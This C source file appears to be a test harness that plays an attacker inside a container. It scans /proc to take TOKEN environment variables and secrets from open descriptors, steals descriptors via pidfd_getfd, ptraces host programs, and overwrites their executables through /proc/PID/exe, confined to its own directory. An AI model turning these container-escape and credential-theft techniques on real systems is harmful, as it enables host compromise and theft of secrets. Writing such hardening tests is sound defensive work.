/* SPDX-License-Identifier: MIT */
/*
 * The attacker in a container: waits for processes to appear that it has not seen before, and takes
 * from each what the kernel lets it have before the process becomes the container's own.
 *
 *   lurker LOOT STOP HOST...   until the file STOP is there. HOST: programs of the host, by their
 *                              last names, as /proc/PID/exe has them; below the directory of
 *                              LOOT only, so that it can never harm a program of the machine.
 *
 * Lines in LOOT, once each: `ready`; `environ NAME=VALUE` of a variable TOKEN; `fd TEXT`, the file
 * `secret` in a directory that a process has open; `traced NAME` and `exe NAME`, a HOST program
 * that it could attach to, or open by its process; `overwritten NAME`, one that it could write to
 * then; `socket`, a process has one, by which others may believe it. Into pipes it writes what may
 * be taken for an errno.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { LINES = 64, HELD = 16, TEXT = 256 };

static char lines[LINES][TEXT];
static int nlines;
static FILE *loot;
static const char *below; /* its directory, with the slash */
static int held[HELD];	  /* of host programs, to be written to when they no longer run */
static char held_name[HELD][TEXT];
static int nheld;

static void tell(const char *what, const char *text)
{
	char line[TEXT];

	snprintf(line, sizeof(line), "%s %.200s", what, text);
	for (int i = 0; i < nlines; i++)
		if (strcmp(lines[i], line) == 0)
			return;
	if (nlines < LINES)
		strcpy(lines[nlines++], line);
	fprintf(loot, "%s\n", line);
	fflush(loot);
}

static void take_environ(const char *pid)
{
	char path[64], text[8192];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n > 0 ? n : 0] = '\0';
	for (char *at = text; at < text + n; at += strlen(at) + 1)
		if (strncmp(at, "TOKEN=", 6) == 0)
			tell("environ", at);
}

static void take_fds(const char *pid)
{
	for (int i = 3; i < 24; i++) {
		char path[64], text[TEXT] = "";
		int fd;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%s/fd/%d/secret", pid, i);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, text, sizeof(text) - 1);
		close(fd);
		text[n > 0 ? n : 0] = '\0';
		text[strcspn(text, "\n")] = '\0';
		tell("fd", text);
	}
}

/* Descriptors themselves, where the kernel lets us have them; pidfd_getfd(2), 5.6. */
static void take_channels(const char *pid)
{
	const int nonsense = 1 << 20;
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);

	for (int i = 3; pidfd >= 0 && i < 24; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
		struct stat st;

		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode))
			tell("socket", "");
		else if (S_ISFIFO(st.st_mode))
			(void)!write(fd, &nonsense, sizeof(nonsense));
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

/* Whether the process is still a program of the host; its last name. */
static bool is_host(const char *pid, char **hosts, const char **out_name)
{
	char path[64], exe[TEXT];
	const char *name;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n <= 0)
		return false;
	exe[n] = '\0';
	if (strncmp(exe, below, strlen(below)) != 0)
		return false;
	name = strrchr(exe, '/') + 1;
	for (; *hosts; hosts++)
		if (strcmp(*hosts, name) == 0) {
			*out_name = *hosts;
			return true;
		}
	return false;
}

static void take_program(const char *pid, const char *name)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	tell("exe", name);
	if (nheld == HELD) {
		close(fd);
		return;
	}
	held[nheld] = fd;
	snprintf(held_name[nheld++], TEXT, "%s", name);
}

static void trace(const char *pid, const char *name)
{
	pid_t number = (pid_t)atoi(pid);
	int status;

	if (number <= 1 || ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
		return;
	tell("traced", name);
	ptrace(PTRACE_INTERRUPT, number, 0, 0);
	waitpid(number, &status, __WALL);
	ptrace(PTRACE_DETACH, number, 0, 0);
}

/* A running program cannot be written to; what was opened can be opened again until then. */
static void overwrite(void)
{
	for (int i = 0; i < nheld; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY);
		if (fd < 0)
			continue;
		if (write(fd, "#!overwritten", 13) == 13)
			tell("overwritten", held_name[i]);
		close(fd);
		close(held[i]);
		held[i] = held[--nheld];
		memcpy(held_name[i], held_name[nheld], TEXT);
		i--;
	}
}

static void look(char **hosts)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc))) {
		const char *pid = entry->d_name, *name = NULL;

		if (strspn(pid, "0123456789") != strlen(pid) || atoi(pid) == getpid() ||
		    atoi(pid) == 1)
			continue;
		take_environ(pid);
		take_fds(pid);
		take_channels(pid);
		if (is_host(pid, hosts, &name)) {
			take_program(pid, name);
			trace(pid, name);
		}
	}
	if (proc)
		closedir(proc);
}

int main(int argc, char **argv)
{
	char *slash = argc < 4 ? NULL : strrchr(argv[1], '/');

	if (!slash || !(loot = fopen(argv[1], "we")))
		return 1;
	slash[1] = '\0';
	below = argv[1];
	signal(SIGPIPE, SIG_IGN);
	tell("ready", "");
	while (access(argv[2], F_OK) < 0) {
		look(argv + 3);
		overwrite();
	}
	for (int i = 0; i < 200 && nheld; i++) {
		overwrite();
		poll(NULL, 0, 10);
	}
	return 0;
}
